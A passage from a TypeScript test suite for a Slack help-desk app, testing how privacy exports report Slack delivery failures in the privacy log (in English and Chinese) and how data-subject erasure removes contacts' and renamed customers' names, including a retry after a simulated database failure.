      (await app.slack.command('/desk', 'privacy log', { userId: ADMIN })).body,
    );
    expect(body).toContain('files may have been delivered: Slack did not answer the share');
    expect(body).not.toContain('files not delivered');
    await app.setSettings(() => ({ locale: 'zh-CN' }));
    app.fake.takeAndFailHttp('files.completeUploadExternal', 504);
    await app.slack.command('/desk', `privacy export ${code}`, { userId: ADMIN });
    expect(told().at(-1)).toContain('文件可能已经分享：请先查看你与服务台的私信');
    const zh = JSON.stringify(
      (await app.slack.command('/desk', 'privacy log', { userId: ADMIN })).body,
    );
    expect(zh).toContain('文件可能已送达：Slack 未回应分享请求');
  });

  test("the privacy log says which export reached the admin: delivered, or not with Slack's reason; the entry holds no file content", async () => {
    /** The export lines of `/desk privacy log`, newest first. */
    const logLines = async () => {
      const body = (await app.slack.command('/desk', 'privacy log', { userId: ADMIN })).body;
      return String(JSON.stringify(body))
        .split(/\\n|"/)
        .filter((l) => l.includes('data-subject export') || l.includes('个人数据导出'));
    };
    app.fake.failNext('files.getUploadURLExternal', 'missing_scope');
    await app.slack.command('/desk', `privacy export ${code}`, { userId: ADMIN });
    app.clock.advance(60_000);
    app.fake.failNext('files.completeUploadExternal', 'not_in_channel');
    await app.slack.command('/desk', `privacy export ${code} 王芳`, { userId: ADMIN });
    app.clock.advance(60_000);
    await app.slack.command('/desk', `privacy export ${code}`, { userId: ADMIN });
    expect(app.fake.sharedFiles(DM)).toHaveLength(2);

    const lines = await logLines();
    expect(lines).toHaveLength(3);
    expect(lines[0]).toContain(`${code} · files delivered in Slack`);
    expect(lines[1]).toContain(
      `${code} contact · files not delivered: Slack refused them (\`not_in_channel\`)`,
    );
    expect(lines[2]).toContain(
      `${code} · files not delivered: Slack refused them (\`missing_scope\`)`,
    );
    // One entry per export, given Slack's answer; never the files' content.
    const log = await app.db.models.privacyLog.find().sort({ at: 1 }).lean();
    expect(log.map((e) => [e.subject, e.detail.delivered, e.detail.deliveryError])).toEqual([
      [code, false, 'missing_scope'],
      [`${code} contact`, false, 'not_in_channel'],
      [code, true, undefined],
    ]);
    expect(JSON.stringify(log)).not.toContain('王芳');

    // In Chinese.
    await app.setSettings(() => ({ locale: 'zh-CN' }));
    const zh = await logLines();
    expect(zh[0]).toContain('文件已在 Slack 送达');
    expect(zh[2]).toContain('文件未送达：Slack 拒收（`missing_scope`）');
  });

  test('an install without `files:write` (made before the manifest asked for it): the admin is told a reinstall grants it, not to try again in a minute', async () => {
    app.fake.failNext('files.getUploadURLExternal', 'missing_scope');
    await app.slack.command('/desk', `privacy export ${code}`, { userId: ADMIN });
    const said = told().at(-1)!;
    expect(said).toBe(
      `The export of ${code} was made (and recorded in the privacy log), but Slack says the desk's install in this workspace lacks the \`files:write\` permission, so nothing was shared. Trying again will not help: a workspace admin installs the app again to grant it (the app's manifest asks for it). Until then, the server's \`npm run privacy -- export\` writes the same files.`,
    );
    expect(said).not.toContain('try again in a minute');
    expect(app.fake.sharedFiles(DM)).toEqual([]);

    await app.setSettings(() => ({ locale: 'zh-CN' }));
    app.fake.failNext('files.getUploadURLExternal', 'missing_scope');
    await app.slack.command('/desk', `privacy export ${code}`, { userId: ADMIN });
    expect(told().at(-1)).toContain('缺少 `files:write` 权限');
    expect(told().at(-1)).toContain('重新安装应用');
  });
});

describe('an erased contact as another customer’s contact outside Slack', () => {
  test('a ticket of another customer filed for her by name (contact outside Slack) loses her name; its card no longer shows it', async () => {
    const filed = await makeTicket(app, {
      customerCode: otherCode,
      title: 'Joint delivery',
      requester: { contactName: '王芳 (Huadong)', via: 'phone' },
    });
    await app.desk.services.dataSubjects.erase(await ctxOf(app, ADMIN), code, '王芳');
    expect(await scan(ERASED_TRACES)).toEqual([]);
    const stored = (await app.db.models.tickets.findOne({ number: filed.number }).lean())!;
    expect(stored.requester).toEqual({ contactName: '[erased] (Huadong)', via: 'phone' });
    const card = JSON.stringify(
      (await app.slack.command('/ticket', filed.number, { userId: AGENT })).body,
    );
    expect(card).toContain('[erased] (Huadong), by Phone');
  });
});

describe('a renamed customer erased', () => {
  test('the names it had before go too: its change log, the outbox, a task done under its first name and a greeting naming it', async () => {
    const { code: jinling } = await makeCustomer(app, {
      name: 'Jinling Trading',
      lifecycle: 'active',
    });
    // A visit planned and done under its first name (its DMs kept in the outbox as delivered).
    await app.slack.command('/task', 'new', { userId: OWNER });
    const planned = app.fake.callsTo('views.open').at(-1)!.args.view as Record<string, any>;
    await app.slack.submitView(
      planned,
      { customer: jinling, kind: 'visit', executor: AGENT, due: '2026-11-27', content: 'Visit' },
      { userId: OWNER },
    );
    const visit = (await app.db.models.tasks.findOne({ customerCode: jinling }).lean())!;
    await app.slack.blockAction(
      { action_id: 'task_done_open', value: String(visit._id) },
      { userId: AGENT },
    );
    const done = app.fake.callsTo('views.open').at(-1)!.args.view as Record<string, any>;
    await app.slack.submitView(done, { type: 'visit', summary: 'Met them' }, { userId: AGENT });
    // No contact to greet: its New Year greeting names the customer.
    await runJobAt(app, tasksJob, '2026-12-29T01:00:00Z');
    const greeting = await app.db.models.tasks
      .findOne({ customerCode: jinling, kind: 'greeting' })
      .lean();
    expect(greeting!.content).toContain('Jinling Trading');
    // Renamed, then erased.
    const edit = (await openCustomerEdit(app, jinling, OWNER)).args.view as Record<string, any>;
    expect(
      (await app.slack.submitView(edit, { name: 'Jinling Logistics' }, { userId: OWNER })).body,
    ).toBe('');
    app.clock.advance(10_000);
    await app.desk.outbox.drain();
    expect((await scan(['Jinling Trading'])).length).toBeGreaterThan(3);
    await erasedInSlack(`${jinling}`);
    expect(await scan(['Jinling'])).toEqual([]);
  });

  test('an erasure cut short (the outbox unreadable) and run again as told: the name it had before still goes from the outbox', async () => {
    const { code: jinling } = await makeCustomer(app, { name: 'Jinling Trading' });
    await makeTicket(app, { customerCode: jinling, title: 'spindle' });
    await app.desk.services.customers.update(await ctxOf(app, OWNER), jinling, {
      name: 'Jinling Logistics',
    });
    app.clock.advance(10_000);
    await app.desk.outbox.drain();
    expect((await scan(['Jinling Trading'])).some((s) => s.startsWith('outbox'))).toBe(true);
    const modal = await eraseModal(`${jinling}`);
    const outbox = app.db.models.outbox;
    const find = outbox.find.bind(outbox);
    let failed = false;
    const spy = vi.spyOn(outbox, 'find').mockImplementation(((filter: any, ...rest: any[]) => {
      if (!failed && filter && Object.keys(filter).length === 1 && filter.teamId) {
        failed = true;
        throw new Error('database unavailable');
      }
      return (find as any)(filter, ...rest);
    }) as any);
    try {
      await app.slack.submitView({ ...modal, id: 'V0JINLING1' } as never, {}, { userId: ADMIN });
    } finally {
      spy.mockRestore();
    }
    expect(failed).toBe(true);
    const told = app.fake.callsTo('views.update').filter((c) => c.args.view_id === 'V0JINLING1');
    expect(JSON.stringify(told.at(-1)!.args.view)).toContain(
      'Run the same erase again to finish it',
    );
    // Run again, as the admin is told: repeating is safe, and finishes it.
    await app.slack.submitView({ ...modal, id: 'V0JINLING2' } as never, {}, { userId: ADMIN });
    expect(await scan(['Jinling'])).toEqual([]);
  });

  test('a former name another customer bears now stays in that customer’s text, gone from its own change log', async () => {
    const owner = await ctxOf(app, OWNER);
    const { code: first } = await makeCustomer(app, { name: 'Acme Tools' });
    await app.desk.services.customers.update(owner, first, { name: 'Acme Works' });
    const { code: now } = await makeCustomer(app, { name: 'Acme Tools' });
    await makeTicket(app, { customerCode: now, title: 'Acme Tools: order' });
    await app.desk.services.dataSubjects.erase(await ctxOf(app, ADMIN), first);
    const left = await scan(['Acme']);
    expect(left.some((s) => s.startsWith('customer_changes.'))).toBe(false);
    expect(left).toContain('tickets.title: Acme Tools: order');
    expect(left).toContain('customers.name: Acme Tools');
  });
});
